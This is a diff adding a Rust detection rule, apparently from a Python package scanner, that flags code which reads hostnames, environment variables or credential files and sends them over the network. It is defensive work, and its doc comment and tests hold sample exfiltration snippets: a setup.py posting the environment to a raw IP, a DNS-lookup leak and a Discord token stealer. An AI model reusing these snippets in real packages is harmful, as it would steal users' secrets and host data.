@@ -1,0 +1,135 @@
+use std::collections::BTreeSet;
+
+use super::vocab::{self, Secret};
+use crate::declare_rule;
+use crate::inspect::python::Call;
+use crate::inspect::rules::{Rule, RuleMeta};
+use crate::inspect::{Analysis, Finding, Severity, Stage};
+
+declare_rule! {
+    /// ## What it does
+    /// Connects sources and sinks the way an analyst would: code that reads
+    /// host identity or secrets (environment variables, hostname, user name,
+    /// working directory, MAC address; browser, Discord, wallet or credential
+    /// files) and sends data over the network (HTTP, sockets, DNS, webhooks).
+    /// Where the code runs decides how bad it is: at install time any such
+    /// pair is critical; in library code only secrets or a send straight to a
+    /// suspicious endpoint are.
+    ///
+    /// ## Why is this bad?
+    /// This is what dependency-confusion probes (hostname + user → attacker),
+    /// token grabbers and info-stealers do.
+    ///
+    /// ## Example
+    /// ```python
+    /// # setup.py — Error
+    /// requests.post("http://198.51.100.7/c", data={"h": socket.gethostname(), "e": dict(os.environ)})
+    /// # library — No error: reading an API key and calling the API when asked
+    /// def client(): return requests.get(API, headers={"key": os.getenv("API_KEY")})
+    /// ```
+    ///
+    /// ## False positives
+    /// Cloud SDKs read credential files and talk to the network; when that
+    /// happens only inside functions it is reported as `medium`.
+    Exfiltration, id = "exfiltration", severity = Critical,
+    summary = "reads host data or secrets and sends them over the network"
+}
+
+fn is_sink(call: &Call) -> bool {
+    if vocab::is_network(&call.name) && !call.name.ends_with("Session") {
+        return true;
+    }
+    // DNS lookups of a computed name are an exfiltration channel at install time.
+    matches!(call.name.as_str(), "socket.gethostbyname" | "socket.getaddrinfo" | "socket.gethostbyname_ex")
+        && call.stage == Stage::Install
+        && (call.arg_strs.is_empty() || call.arg_refs.iter().any(|r| vocab::is_host_info(r)))
+}
+
+impl Rule for Exfiltration {
+    fn meta(&self) -> &'static RuleMeta {
+        &Self::META
+    }
+
+    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
+        for unit in analysis.units() {
+            let code = unit.code;
+            let sinks: Vec<&Call> = code.calls.iter().filter(|c| is_sink(c)).collect();
+            let Some(first_sink) = sinks.first() else { continue };
+            let host: Vec<(&str, u32, u32)> = code
+                .calls
+                .iter()
+                .map(|c| (c.name.as_str(), c.scope, c.line))
+                .chain(code.refs.iter().map(|r| (r.name.as_str(), r.scope, r.line)))
+                .filter(|(n, _, _)| vocab::is_host_info(n))
+                .collect();
+            let secrets: BTreeSet<Secret> = vocab::strings(code).filter_map(vocab::secret_kind).collect();
+            let strong_endpoint =
+                vocab::strings(code).filter_map(vocab::endpoint_kind).find(|e| e.is_strong() || *e == vocab::Endpoint::RawIp);
+            let install_sink = sinks.iter().find(|s| s.stage == Stage::Install);
+            let import_sink = sinks.iter().find(|s| s.stage == Stage::Import);
+            let host_names: BTreeSet<&str> = host.iter().map(|(n, _, _)| *n).collect();
+            let describe_host = || host_names.iter().take(4).copied().collect::<Vec<_>>().join(", ");
+            let describe_secrets = || secrets.iter().map(|s| s.describe()).collect::<Vec<_>>().join(", ");
+            let stealer = secrets.iter().any(|s| *s != Secret::Credentials);
+            let (severity, sink, message) = if stealer {
+                let sev = if code.role.stage(false) == Stage::Auxiliary { Severity::Medium } else { Severity::Critical };
+                (sev, *first_sink, format!("reads {} and sends data with {}()", describe_secrets(), first_sink.name))
+            } else if let (Some(sink), false) = (install_sink, host.is_empty() && secrets.is_empty()) {
+                let what = if secrets.is_empty() { describe_host() } else { describe_secrets() };
+                (Severity::Critical, *sink, format!("collects {what} and sends it with {}() at install time", sink.name))
+            } else if let (Some(sink), false) = (import_sink, host.iter().all(|(_, scope, _)| *scope != 0) && secrets.is_empty()) {
+                let what = if secrets.is_empty() { describe_host() } else { describe_secrets() };
+                (Severity::High, *sink, format!("collects {what} and sends it with {}() on import", sink.name))
+            } else if let (Some(endpoint), false) = (strong_endpoint, host.is_empty() && secrets.is_empty()) {
+                let what = if secrets.is_empty() { describe_host() } else { describe_secrets() };
+                let sev = if code.role.stage(false) == Stage::Auxiliary { Severity::Low } else { Severity::High };
+                (sev, *first_sink, format!("collects {what} and sends it with {}() to {}", first_sink.name, endpoint.describe()))
+            } else if !secrets.is_empty() {
+                (Severity::Medium, *first_sink, format!("reads {} and uses the network ({}())", describe_secrets(), first_sink.name))
+            } else {
+                continue;
+            };
+            out.push(unit.finding(Self::META.id, severity, sink.line, message));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::archive::Kind;
+    use crate::inspect::testing::{check, setup_py};
+
+    #[test]
+    fn fires_on() {
+        // Error: dependency-confusion probe in setup.py.
+        let f = setup_py(
+            &Exfiltration,
+            "import socket, getpass, requests\nrequests.get('http://198.51.100.7/', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
+        );
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
+        // Error: DNS exfiltration.
+        let f = setup_py(&Exfiltration, "import socket, os\nsocket.gethostbyname(os.getlogin() + '.x.example')\n");
+        assert_eq!(f.len(), 1);
+        // Error: stealer in a library function.
+        let f = check(
+            &Exfiltration,
+            Kind::Wheel,
+            &[("pkg/core.py", "import requests, os\ndef go():\n    p = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n    requests.post(HOOK, data=open(p).read())\n")],
+        );
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
+    }
+
+    #[test]
+    fn quiet_on() {
+        // No error: API client reading its key from the environment.
+        let f = check(
+            &Exfiltration,
+            Kind::Wheel,
+            &[("pkg/client.py", "import os, requests\ndef call():\n    return requests.get('https://api.example.com', headers={'k': os.getenv('API_KEY')})\n")],
+        );
+        assert!(f.is_empty(), "{f:?}");
+        // No error: setup.py reading an env var without network.
+        assert!(setup_py(&Exfiltration, "import os\nif os.environ.get('CUDA_HOME'): pass\n").is_empty());
+    }
+}
